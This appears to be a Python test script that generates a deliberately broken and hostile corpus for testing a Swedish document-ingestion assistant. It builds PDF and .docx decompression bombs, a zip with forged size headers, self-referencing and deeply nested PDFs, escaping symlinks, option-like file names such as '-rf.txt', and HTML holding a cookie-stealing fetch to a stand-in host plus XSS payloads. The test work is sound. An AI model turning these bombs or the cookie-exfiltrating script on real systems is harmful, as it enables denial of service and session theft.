"""Write a corpus of broken and hostile files beside three good ones.

    python tests/make_bad_corpus.py /tmp/bad && kp-assistant ingest --index /tmp/bad-idx /tmp/bad

`make_bad_corpus(folder)` returns each file's expected outcome: "indexed", or a substring of the
reason ingestion reports. The symlink escaping the corpus points into a sibling folder,
`<folder>-utanför/`, which holds one secret file. Everything is generated, nothing downloaded;
the only large file is the text file of `big_text_mb` MB.
"""

from __future__ import annotations

import argparse
import io
import os
import sys
import time
import unicodedata
import zipfile
import zlib
from pathlib import Path

import docx
from pypdf import PdfReader, PdfWriter

INDEXED = "indexed"
SECRET_WORD = "Zanzibarlösen"  # only in the file behind the escaping symlink

GOOD: dict[str, str] = {
    "goda/harnosand_nakuru.md": """# Härnösand och Nakuru

Härnösands kommun samarbetar med Nakuru County i Kenya om solcellsdrivna vattenpumpar.
Under 2023 fick 42 skolor i Nakuru rent vatten genom projektet.
""",
    "goda/ostersund_gulu.txt": """Östersund och Gulu

Östersunds kommun och Gulu i Uganda arbetar med trafiksäkerhet för cyklister.
Partnerskapet har byggt 18 kilometer cykelbana i Gulu sedan 2021.
""",
}
GOOD_PDF = "goda/sandviken_mangochi.pdf"
GOOD_PDF_LINES = [
    "Sandviken och Mangochi",
    "Sandvikens kommun och Mangochi i Malawi samarbetar om fiske i Malawisjön.",
    "Projektet har utbildat 300 fiskare i hållbart fiske sedan 2022.",
]
# Each good file answers one question and cites itself.
GOOD_QUESTIONS: dict[str, str] = {
    "goda/harnosand_nakuru.md": "Hur många skolor i Nakuru fick rent vatten?",
    "goda/ostersund_gulu.txt": "Hur många kilometer cykelbana har byggts i Gulu?",
    GOOD_PDF: "Hur många fiskare har utbildats i Mangochi?",
}

ODD_NAMES = [
    "med mellanslag i namnet.txt",
    "åäö Örebro.md",
    unicodedata.normalize("NFD", "nfd Malmö.txt"),  # as a Mac writes it
    "-rf.txt",
    "--help.md",
    "lång " + "x" * 190 + ".txt",
]

# --- Minimal PDF syntax, written by hand ---------------------------------------------------------

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF whose object n (1-based) is objects[n-1]; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def _text_ops(lines: list[str]) -> bytes:
    shown = " ".join(f"({line}) Tj T*" for line in lines)
    return f"BT /F1 11 Tf 14 TL 72 770 Td {shown} ET".encode("cp1252")


def _page(parent: int, contents: int, font: int, extra: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> %s>> >>" % (parent, contents, font, extra)
    )


def text_pdf(pages: list[list[str]]) -> bytes:
    """One page per entry, one text line per string (cp1252: å, ä and ö are fine)."""
    n = len(pages)
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(n))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
        _FONT,
    ]
    for i, lines in enumerate(pages):
        objects += [_page(2, 5 + 2 * i, 3), _stream(_text_ops(lines))]
    return raw_pdf(objects)


def _one_page(page: bytes, content: bytes, *more: bytes, pages: bytes | None = None) -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    pages = pages or b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf([catalog, pages, page, content, _FONT, *more])


SELF_KIDS = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"


def hostile_pdfs() -> dict[str, tuple[bytes, str]]:
    """Self-referencing and deeply nested object trees: name -> (bytes, expected outcome)."""
    hej = _stream(_text_ops(["Hej från en trasig PDF."]))
    depth = 100_000
    deep_pages = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    deep_pages += [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (i + 3) for i in range(5000)]
    deep_pages += [_page(5001, 5003, 5004), hej, _FONT]
    form = b"/XObject << /X1 6 0 R >> "
    loop_form = _stream(
        b"BT /F1 11 Tf 72 700 Td (Formul\xe4ret ritar sig sj\xe4lvt.) Tj ET /X1 Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> " + form + b">> ",
    )
    return {
        # the page tree lists itself among its own kids
        "pdf/sidtrad_som_pekar_pa_sig_sjalv.pdf": (
            _one_page(_page(2, 4, 5), hej, pages=SELF_KIDS),
            "not a valid PDF",
        ),
        # an array nested 100,000 levels deep in the page dictionary
        "pdf/nastlad_100000_nivaer.pdf": (
            _one_page(
                _page(2, 4, 5)[:-3] + b"/Nested " + b"[" * depth + b"]" * depth + b" >>", hej
            ),
            "not a valid PDF",
        ),
        # the same nesting inside the text operators of the page
        "pdf/nastlad_i_innehallet.pdf": (
            _one_page(
                _page(2, 4, 5),
                _stream(b"BT /F1 11 Tf 72 770 Td " + b"[" * depth + b"]" * depth + b" TJ ET"),
            ),
            "text extraction failed",
        ),
        # a page tree 5,000 levels deep
        "pdf/sidtrad_5000_nivaer.pdf": (raw_pdf(deep_pages), "not a valid PDF"),
        # the page's content is a reference to a reference to itself
        "pdf/referensslinga.pdf": (
            _one_page(_page(2, 6, 5), _stream(b""), _FONT, b"7 0 R", b"6 0 R"),
            "no text layer",
        ),
        # a form XObject that draws itself: pypdf skips the cycle and keeps the page text
        "pdf/formular_ritar_sig_sjalvt.pdf": (
            _one_page(_page(2, 4, 5, form), hej, loop_form),
            INDEXED,
        ),
        # a 100 KB page whose content stream inflates to 100 MB of blanks
        "pdf/packad_bomb.pdf": (_one_page(_page(2, 4, 5), flate_bomb(100)), "decompressing"),
    }


def flate_bomb(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    data = packer.compress(b"BT /F1 11 Tf 72 770 Td (Bomb) Tj ET\n")
    data += b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes))
    return _stream(data + packer.flush(), b"/Filter /FlateDecode ")


def image_only_pdf() -> bytes:
    """One page showing a grey 8x8 image and no text, like a scan."""
    image = _stream(
        bytes(range(0, 256, 4)),
        b"/Type /XObject /Subtype /Image /Width 8 /Height 8 "
        b"/ColorSpace /DeviceGray /BitsPerComponent 8 ",
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im1 5 0 R >> >> >>"
    )
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            _stream(b"q 500 0 0 700 50 70 cm /Im1 Do Q"),
            image,
        ]
    )


def encrypted_pdf(source: Path, target: Path, user_password: str) -> None:
    writer = PdfWriter(clone_from=PdfReader(source))
    writer.encrypt(user_password=user_password, owner_password="ägarens-lösenord")
    writer.write(target)


# --- Word ----------------------------------------------------------------------------------------


def zip_bomb(path: Path, megabytes: int = 300) -> None:
    """A .docx whose document.xml unpacks to `megabytes` of zeros (about 1,000:1)."""
    chunk = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("word/document.xml", "w", force_zip64=True) as member,
    ):
        for _ in range(megabytes):
            member.write(chunk)


def lying_zip(path: Path, megabytes: int = 100) -> None:
    """A real .docx whose document.xml claims to be 2 KB but unpacks to `megabytes` MB."""
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    chunk = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(buffer) as original,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
    ):
        for item in original.infolist():
            if item.filename != "word/document.xml":
                archive.writestr(item.filename, original.read(item))
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            for _ in range(megabytes):
                member.write(chunk)
    data = bytearray(path.read_bytes())
    real = (megabytes * 1024 * 1024).to_bytes(8, "little")
    # the local header keeps the size in a zip64 extra field, 8 bytes …
    at = data.find(real)
    while at != -1:
        data[at : at + 8] = (2048).to_bytes(8, "little")
        at = data.find(real, at + 8)
    # … the central directory (which zipfile trusts) in its 32-bit field at offset 24;
    # document.xml was written last, so its entry is the last one
    central = data.rfind(b"PK\x01\x02")
    data[central + 24 : central + 28] = (2048).to_bytes(4, "little")
    path.write_bytes(bytes(data))


# --- Text and HTML -------------------------------------------------------------------------------

_SENTENCES = [
    "Kommunen arbetar med {t} tillsammans med partnern i {c}.",
    "Under år {y} hölls {n} möten om {t} med förtroendevalda och tjänstepersoner.",
    "Unga i båda kommunerna deltog i arbetet med {t}.",
    "Projektet följs upp varje höst och rapporteras till styrgruppen.",
]
_TOPICS = ["avfall", "jämställdhet", "dricksvatten", "demokrati", "klimat", "folkhälsa"]
_COUNTRIES = ["Kenya", "Uganda", "Botswana", "Tanzania", "Moçambique"]


def big_text(path: Path, megabytes: float) -> None:
    """Repetitive Swedish prose, written a paragraph at a time (memory stays small)."""
    size = int(megabytes * 1024 * 1024)
    written = i = 0
    with open(path, "w", encoding="utf-8") as out:
        while written < size:
            para = " ".join(
                s.format(t=_TOPICS[i % 6], c=_COUNTRIES[i % 5], y=1990 + i % 35, n=i % 17 + 2)
                for s in _SENTENCES
            )
            written += out.write(f"{para}\n\n")
            i += 1


def script_html(scripts: int, body: str) -> str:
    script = (
        "<script>var s = document.cookie; fetch('https://example.invalid/?' + s);"
        " for (;;) { alert('Inte en del av texten'); }</script>\n"
    )
    return (
        "<!doctype html><html><head><title>Lidköping och Kitwe</title>"
        + script * (scripts // 2)
        + "<style>body { display: none }</style></head><body>"
        + "<noscript>Aktivera JavaScript</noscript>"
        + script * (scripts - scripts // 2)
        + body
        + '<img src=x onerror="alert(1)"><iframe src="javascript:alert(2)"></iframe>'
        + "</body></html>"
    )


# --- The corpus ----------------------------------------------------------------------------------


def make_bad_corpus(folder: Path, *, big_text_mb: float = 50) -> dict[str, str]:
    """Write the corpus into `folder` (created); return file name -> expected outcome."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str] = {}

    def put(name: str, data: bytes | str, outcome: str) -> Path:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            data = data.encode("utf-8")
        path.write_bytes(data)
        expected[name] = outcome
        return path

    for name, text in GOOD.items():
        put(name, text, INDEXED)
    good_pdf = put(GOOD_PDF, text_pdf([GOOD_PDF_LINES]), INDEXED)

    for name in ["tom.txt", "tom.pdf", "tom.docx", "tom.html"]:
        put(f"tomma/{name}", b"", "empty file")
    put("text/bara_blanksteg.md", " \n\t\n\u00a0\n", "no text found")

    # PDFs
    thousand = text_pdf(
        [
            [
                f"Sida {n}: Sundsvalls kommun och Kisumu i Kenya arbetar med vatten.",
                f"Avsnittet beskriver projektets mål för år {1900 + n % 120}.",
            ]
            for n in range(1, 1001)
        ]
    )
    put("pdf/tusen_sidor.pdf", thousand, INDEXED)
    put("pdf/avhuggen_mitt.pdf", thousand[: len(thousand) // 2], "not a valid PDF (truncated")
    put("pdf/avhuggen_slut.pdf", thousand[:-200], "not a valid PDF (truncated")
    put("pdf/bara_huvud.pdf", b"%PDF-1.7\n", "not a valid PDF")
    put("pdf/felsida_sparad_som_pdf.pdf", "<html>404 Not Found</html>", "no %PDF header")
    encrypted_pdf(good_pdf, folder / "pdf/krypterad_med_losenord.pdf", "hemligt")
    expected["pdf/krypterad_med_losenord.pdf"] = "encrypted PDF (password required)"
    encrypted_pdf(good_pdf, folder / "pdf/krypterad_tomt_losenord.pdf", "")
    expected["pdf/krypterad_tomt_losenord.pdf"] = INDEXED
    put("pdf/bara_bild.pdf", image_only_pdf(), "no text layer")
    for name, (data, outcome) in hostile_pdfs().items():
        put(name, data, outcome)

    # Text in other encodings, binary data, a very large file
    put(
        "text/cp1252.txt",
        "Örnsköldsviks kommun och Kabale i Uganda planerar förskolor – ”året runt”.\n".encode(
            "cp1252"
        ),
        INDEXED,
    )
    put(
        "text/utf16.txt",
        "Ängelholms kommun samarbetar med Katima Mulilo i Namibia om turism.\n".encode("utf-16"),
        INDEXED,
    )
    put(
        "text/utf16_utan_bom.txt",
        "Åmåls kommun och Rundu i Namibia arbetar med skolmåltider.\n".encode("utf-16-le"),
        INDEXED,
    )
    put("text/binar_data.txt", bytes(range(256)) * 64, "binary data, not text")
    big_text(folder / "text/femtio_mb.txt", big_text_mb)
    # 50 MB of prose is about 7 million words: more than the 10 million character default limit
    expected["text/femtio_mb.txt"] = "text longer than"

    # HTML
    body = (
        "<main><h1>Lidköping och Kitwe</h1><p>Lidköpings kommun och Kitwe i Zambia bygger "
        "en biogasanläggning vid stadens reningsverk.</p></main>"
    )
    put("html/skript.html", script_html(5000, body), INDEXED)
    put("html/bara_skript.html", script_html(200, ""), "no text found")
    put(
        "html/nastlad.html",
        "<div>" * 20_000 + "Djupt" + "</div>" * 20_000,
        "structure nested too deeply",
    )

    # Word
    (folder / "word").mkdir(exist_ok=True)
    zip_bomb(folder / "word/zipbomb.docx")
    expected["word/zipbomb.docx"] = "suspicious archive (zip bomb?)"
    lying_zip(folder / "word/ljugande_storlek.docx")
    expected["word/ljugande_storlek.docx"] = "not a valid .docx (Bad CRC-32"
    put(
        "word/gammal_doc.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000),
        "not a zip archive",
    )

    # Links and other non-files
    outside = folder.parent / f"{folder.name}-utanför"
    outside.mkdir(exist_ok=True)
    (outside / "hemlig.txt").write_text(f"Lösenordet är {SECRET_WORD}.\n", encoding="utf-8")
    links = {
        "lankar/pekar_utanfor.txt": (outside / "hemlig.txt", "pointing outside the corpus"),
        "lankar/slinga_a.txt": (Path("slinga_b.txt"), "symbolic link loop"),
        "lankar/slinga_b.txt": (Path("slinga_a.txt"), "symbolic link loop"),
        "lankar/trasig.txt": (Path("finns_inte.txt"), "cannot read file"),
        "lankar/ror.txt": (Path(".ror"), "symbolic link to a hidden file"),
        "lankar/inne_i_korpusen.md": (Path("../namn/-rf.txt"), INDEXED),
    }
    (folder / "lankar").mkdir(exist_ok=True)
    os.mkfifo(folder / "lankar/.ror")  # hidden, so only the link to it is a candidate
    for name, (target, outcome) in links.items():
        (folder / name).symlink_to(target)
        expected[name] = outcome

    for i, name in enumerate(ODD_NAMES):
        put(f"namn/{name}", f"Fil nummer {i} med ett udda namn handlar om Växjö.\n", INDEXED)
    return expected


def report(folder: Path, index: Path, expected: dict[str, str]) -> bool:
    """Ingest `folder` (KP_* settings apply) and print a Markdown table; True if all as expected."""
    from kp_assistant.assistant import Assistant
    from kp_assistant.models import FileEvent
    from kp_assistant.settings import load_settings

    seconds: dict[str, float] = {}
    last = time.perf_counter()

    def on_event(event: FileEvent) -> None:
        nonlocal last
        now = time.perf_counter()
        seconds[event.source], last = now - last, now

    assistant = Assistant.from_settings(load_settings(index_dir=index))
    summary = assistant.ingest([folder], on_event=on_event)
    counts = f"{len(summary.added)} indexed, {len(summary.failed)} failed"
    print(f"\n{counts}, {summary.seconds:.1f} s\n")
    print("| File | Expected | Outcome | Seconds |\n|---|---|---|---|")
    ok = True
    for name, want in expected.items():
        got = summary.failed.get(name, INDEXED if name in summary.added else "(not seen)")
        ok &= want in got
        mark = "" if want in got else " **unexpected**"
        print(f"| `{name}` | {want} | {got}{mark} | {seconds.get(name, 0):.2f} |")
    return ok


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("folder", type=Path, help="folder to create (must not exist)")
    parser.add_argument("--big-text-mb", type=float, default=50, help="size of the large text")
    parser.add_argument(
        "--ingest",
        type=Path,
        metavar="INDEX",
        help="then ingest it into INDEX and print each file's outcome and time",
    )
    args = parser.parse_args()
    if args.folder.exists():
        parser.error(f"{args.folder} exists; give a new folder")
    expected = make_bad_corpus(args.folder, big_text_mb=args.big_text_mb)
    if args.ingest:
        sys.exit(0 if report(args.folder, args.ingest, expected) else 1)
    width = min(max(map(len, expected)), 60)
    for name, outcome in expected.items():
        print(f"{name:<{width}}  {outcome}")


if __name__ == "__main__":
    main()
